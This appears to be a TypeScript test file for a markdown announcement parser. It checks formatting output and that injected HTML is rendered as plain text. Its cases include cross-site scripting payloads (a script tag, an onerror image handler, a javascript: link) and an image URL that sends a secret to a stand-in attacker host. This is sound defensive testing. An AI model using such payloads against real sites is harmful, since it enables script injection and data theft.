import type { RichTextNode } from '@portal/shared/contracts';
import { parseContent } from './announcement-content';

const element = (tag: string, ...children: RichTextNode[]) => ({ tag, children });
const textOf = (nodes: readonly RichTextNode[]): string =>
  nodes.map((node) => (typeof node === 'string' ? node : textOf(node.children))).join('');
const tagsIn = (nodes: readonly RichTextNode[]): string[] =>
  nodes.flatMap((node) => (typeof node === 'string' ? [] : [node.tag, ...tagsIn(node.children)]));

test('parses headings, lists, emphasis, code, links and single line breaks', () => {
  expect(
    parseContent('# New\n\n1. **First** and *then*\n\n- [Home](/home) ~~old~~ `a*b*`\n\none\ntwo\n\n> q'),
  ).toEqual([
    element('h1', 'New'),
    element('ol', element('li', element('strong', 'First'), ' and ', element('em', 'then'))),
    element(
      'ul',
      element(
        'li',
        { ...element('a', 'Home'), href: '/home' },
        ' ',
        element('s', 'old'),
        ' ',
        element('code', 'a*b*'),
      ),
    ),
    element('p', 'one', element('br'), 'two'),
    element('blockquote', element('p', 'q')),
  ]);
});

test.each([
  '<script>window.stolen = 1</script>',
  'words <img src=x onerror="window.stolen = 1">',
  '<a href="javascript:window.stolen=1">x</a>',
  '&lt;script&gt;',
  '2 * 3 * 4',
  'snake_case_name',
  '**',
  '[a](b c)',
  '| a |\n| --- |',
])('keeps %j as text', (content) => {
  const nodes = parseContent(content);
  expect(textOf(nodes)).toBe(content.replace('\n', ''));
  expect(tagsIn(nodes).filter((tag) => !['p', 'br'].includes(tag))).toEqual([]);
});

test('replaces an image with its text', () => {
  expect(parseContent('![a cat](https://evil.example/?d=secret)')).toEqual([element('p', 'a cat')]);
});

test('keeps the characters of code and of escaped signs', () => {
  expect(parseContent('```\n<b>\n```\n\n\\*a\\*')).toEqual([
    element('pre', element('code', '<b>')),
    element('p', '*', 'a', '*'),
  ]);
});

test('returns nothing for blank content', () => {
  expect(parseContent(' \n\t\n')).toEqual([]);
});

test.each([20, 10_000])('keeps the text of %d nested quotes and lists, without a deep tree', (depth) => {
  for (const sign of ['> ', '- '])
    expect(JSON.stringify(parseContent(`${sign.repeat(depth)}words`))).toMatch(/^(.(?!(\{.*){30}))*words/);
});

test.each(['*', '_', '`', '[', '![', '**a ', '[a](', '_a *b ', '- ', '# ', '**_`[', '[a](b', '<'])(
  'parses twenty thousand characters of %j within a second',
  (sign) => {
    const startedAt = performance.now();
    parseContent(sign.repeat(Math.ceil(20_000 / sign.length)));
    parseContent(`${sign}\n`.repeat(Math.ceil(20_000 / (sign.length + 1))));
    expect(performance.now() - startedAt).toBeLessThan(1000);
  },
);
